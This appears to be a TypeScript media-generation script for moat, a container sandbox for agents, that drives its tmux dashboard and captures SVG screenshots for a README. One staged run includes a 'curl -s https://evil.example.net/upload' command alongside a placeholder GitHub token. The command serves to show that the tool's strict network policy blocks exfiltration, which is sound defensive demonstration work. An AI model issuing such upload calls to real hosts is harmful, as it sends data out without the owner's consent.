import fs from 'node:fs/promises';
import path from 'node:path';
import {fileURLToPath} from 'node:url';
import {startHttpsStandIn, writeTrustBundle} from '../helpers/https-stand-in.js';
import {createSandbox, createWorkspace, destroyRuns, moat} from '../helpers/moat.js';
import {TmuxSession} from '../helpers/tmux.js';
import {screenToSvg} from './terminal-svg.js';

/**
 * `npm run media`: the README's dashboard pictures, drawn by the real moat
 * against real containers — a sealed run whose requests are injected and
 * blocked, a shell bottle, a stopped and a failed run — captured from tmux
 * with their colours and turned into SVG.
 */

const media = fileURLToPath(new URL('../../../media/', import.meta.url));
const size = {columns: 124, rows: 30};

async function pause(milliseconds: number) {
	await new Promise(resolve => {
		setTimeout(resolve, milliseconds);
	});
}

async function main() {
	const sandbox = await createSandbox();
	const workspace = await createWorkspace(1000, 1000, {
		'agent.yaml': 'network:\n  policy: strict\nports:\n  web: 8000\n',
		'README.md': '# web app\n',
	});
	const standIn = await startHttpsStandIn(['api.github.com', 'registry.npmjs.org'], (_request, response) => {
		response.setHeader('content-type', 'application/json');
		response.end('{"login":"octocat"}\n');
	});
	const env = {
		...sandbox.env,
		MOAT_KEYRING_BACKEND: 'file',
		MOAT_UPSTREAM_OVERRIDES: `api.github.com=127.0.0.1:${standIn.port},registry.npmjs.org=127.0.0.1:${standIn.port}`,
		NODE_EXTRA_CA_CERTS: await writeTrustBundle(path.join(path.dirname(sandbox.moatHome), 'trust.pem'), [standIn.caFile]),
		GITHUB_TOKEN: `ghp_${'a1b2c3d4e5'.repeat(4)}`,
	};
	const sessions: TmuxSession[] = [];
	try {
		const must = async (args: string[]) => {
			const result = await moat(args, {env});
			if (result.code !== 0) {
				throw new Error(`moat ${args.join(' ')}: ${result.stderr}`);
			}

			return result.stdout.trim();
		};

		await must(['grant', 'github', '--no-validate']);
		await must(['run', workspace, '-n', 'tests', '--', 'sh', '-c', 'echo 41 passed, 1 failed; exit 1']).catch(() => undefined);
		await must(['run', workspace, '-n', 'lint', '--', 'sh', '-c', 'echo lint clean']);
		await must(['run', workspace, '-d', '-i', '-n', 'shell', '--', 'bash']);
		const sealed = await must(['run', workspace, '-d', '-g', 'github', '-n', 'fix-issue-42', '--', 'sh', '-c', [
			'curl -s https://api.github.com/user',
			'curl -s https://api.github.com/repos/acme/web/issues/42',
			'curl -s https://pypi.org/simple/requests/',
			'curl -s https://evil.example.net/upload',
			'sleep 600',
		].join('; ')]);

		// The dashboard, with the sealed run's Network pane open.
		const dashboard = await TmuxSession.start([], {env, ...size});
		sessions.push(dashboard);
		await dashboard.waitFor('fix-issue-42');
		await pause(4000);
		await dashboard.keys('Tab');
		await pause(300);
		await dashboard.keys('Tab');
		await pause(300);
		await dashboard.keys('Tab');
		await dashboard.waitFor(screen => screen.includes('evil.example.net') && screen.includes(sealed));
		await pause(1500);
		await fs.writeFile(path.join(media, 'dashboard.svg'), screenToSvg(await dashboard.tmux('capture-pane', '-e', '-p'), 'moat: the runs, and the selected run\'s Network pane (a real session)', size.columns));

		// Attached to the shell bottle from the dashboard.
		await dashboard.keys('Escape');
		await pause(500);
		await dashboard.keys('j');
		await pause(500);
		await dashboard.keys('Enter');
		await dashboard.waitFor('Ctrl-/ d');
		await dashboard.type('ls -la /workspace && cat README.md');
		await dashboard.keys('Enter');
		await dashboard.waitFor('# web app');
		await pause(500);
		await fs.writeFile(path.join(media, 'attached.svg'), screenToSvg(await dashboard.tmux('capture-pane', '-e', '-p'), 'a shell bottle attached from the dashboard: Ctrl-/ d goes back, n/p switch bottles', size.columns));
		await dashboard.keys('C-_', 'd');
		await dashboard.waitFor('moat ·');
		await dashboard.keys('q');
		process.stdout.write(`Wrote ${path.join(media, 'dashboard.svg')} and attached.svg\n`);
	} finally {
		for (const session of sessions) {
			await session.kill();
		}

		await destroyRuns(env);
		await sandbox.cleanup();
		await standIn.close();
		await fs.rm(workspace, {recursive: true, force: true});
	}
}

await main();
